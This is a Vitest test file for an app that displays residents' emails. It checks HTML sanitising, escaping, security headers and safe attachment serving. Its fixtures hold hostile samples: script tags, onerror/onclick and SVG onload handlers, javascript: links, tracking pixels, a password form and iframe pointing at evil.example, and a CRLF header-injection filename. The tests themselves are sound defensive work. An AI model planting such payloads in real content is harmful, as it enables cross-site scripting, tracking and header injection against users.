// Email content is hostile: scripts, handlers and remote images in resident HTML must neither run nor load,
// and attachments must never be served as something a browser would execute.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CONTENT_SECURITY_POLICY } from '../../src/web/security.ts';
import { seedRequest, startHarness, type Browser, type Harness } from './harness.ts';

export const HOSTILE_HTML = `<html><head><style>body{background:url(https://tracker.example/bg.png)}</style>
<script>document.title='pwned'</script></head><body>
<p>Streetlight out on <b>Main Street</b></p>
<img src="x" onerror="document.title='pwned-onerror'">
<img src="https://tracker.example/pixel.gif?u=resident" width="1" height="1">
<img src="cid:photo1@resident">
<a href="javascript:document.title='pwned-link'">click</a>
<form action="https://evil.example/"><input name="password"></form>
<iframe src="https://evil.example/"></iframe>
<div style="background-image:url(https://tracker.example/css.png)" onclick="alert(1)">styled</div>
</body></html>`;

let h: Harness;
let b: Browser;

beforeAll(async () => {
  h = await startHarness();
  b = await h.signedIn();
});
afterAll(async () => {
  await h?.close();
});

describe('resident HTML', () => {
  it('is shown without scripts, handlers, forms, frames, styles or remote images, on both screens', async () => {
    const r = await seedRequest(h.db, {
      html: HOSTILE_HTML,
      attachments: [{ filename: 'photo.png', contentType: 'image/png', content: Buffer.from('89504e47', 'hex'), contentId: '<photo1@resident>' }],
    });
    for (const url of [`/review/${r.id}`, `/requests/${r.id}`]) {
      const res = await b.get(url);
      expect(res.statusCode).toBe(200);
      const body = res.body;
      expect(body).toContain('Streetlight out on <b>Main Street</b>');
      for (const bad of ['pwned', 'onerror', 'onclick', 'tracker.example', 'evil.example', 'javascript:', '<iframe', '<form action="https', 'style=']) {
        expect(body, `${url} must not contain ${bad}`).not.toContain(bad);
      }
      // Our only script is the same-origin file.
      expect(body.match(/<script[^>]*>/g)).toEqual(['<script src="/static/app.js" defer>']);
      expect(body).toContain('[remote image not loaded]');
      // The inline image the message refers to by Content-ID is shown from our own URL.
      expect(body).toContain(`<img src="/attachments/${r.attachmentIds[0]}" alt="" />`);
      expect(res.headers['content-security-policy']).toBe(CONTENT_SECURITY_POLICY);
    }
  });

  it('is escaped wherever it is shown as text', async () => {
    const r = await seedRequest(h.db, { subject: '<img src=x onerror=alert(1)>', authored: '<script>alert("x")</script> & "quotes"', from: 'a"onmouseover="x@evil.example' });
    const res = await b.get(`/review/${r.id}`);
    expect(res.body).not.toContain('<img src=x');
    expect(res.body).not.toContain('<script>alert');
    expect(res.body).toContain('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; &quot;quotes&quot;');
    expect(res.body).not.toContain('a"onmouseover');
  });
});

describe('security headers', () => {
  it('every page carries a CSP that forbids inline script, remote content and framing', async () => {
    for (const url of ['/signin', '/review', '/requests', '/dashboard']) {
      const res = await b.get(url);
      const csp = res.headers['content-security-policy'] as string;
      expect(csp, url).toContain("default-src 'none'");
      expect(csp, url).toContain("script-src 'self'");
      expect(csp, url).toContain("img-src 'self'");
      expect(csp, url).toContain("frame-ancestors 'none'");
      expect(csp, url).not.toContain('unsafe-inline');
      expect(res.headers['x-content-type-options'], url).toBe('nosniff');
      expect(res.headers['x-frame-options'], url).toBe('DENY');
      expect(res.headers['referrer-policy'], url).toBe('no-referrer');
      expect(res.headers['cache-control'], url).toBe('no-store');
    }
  });
});

describe('attachments', () => {
  it('serves raster images inline with their type, everything else as an opaque download', async () => {
    const r = await seedRequest(h.db, {
      attachments: [
        { filename: 'hole.png', contentType: 'image/png', content: Buffer.from('89504e470d0a1a0a', 'hex') },
        { filename: 'evil.html', contentType: 'text/html', content: Buffer.from('<script>alert(1)</script>') },
        { filename: 'vector.svg', contentType: 'image/svg+xml', content: Buffer.from('<svg onload="alert(1)"/>') },
        { filename: 'bad "name"\r\nX-Injected: 1.pdf', contentType: 'application/pdf', content: Buffer.from('%PDF-1.4') },
      ],
    });
    const [png, htmlFile, svg, pdf] = r.attachmentIds;
    const image = await b.get(`/attachments/${png}`, { accept: '*/*' });
    expect(image.statusCode).toBe(200);
    expect(image.headers['content-type']).toBe('image/png');
    expect(image.headers['content-disposition']).toMatch(/^inline; filename="hole.png"/);
    expect(image.headers['content-security-policy']).toBe("default-src 'none'; sandbox");
    expect(image.rawPayload).toEqual(Buffer.from('89504e470d0a1a0a', 'hex'));
    for (const id of [htmlFile, svg, pdf]) {
      const res = await b.get(`/attachments/${id}`, { accept: '*/*' });
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toBe('application/octet-stream');
      expect(res.headers['content-disposition']).toMatch(/^attachment; filename="/);
      expect(res.headers['x-content-type-options']).toBe('nosniff');
      expect(res.headers['x-injected']).toBeUndefined();
    }
    expect((await b.get('/attachments/424242', { accept: '*/*' })).statusCode).toBe(404);
  });
});
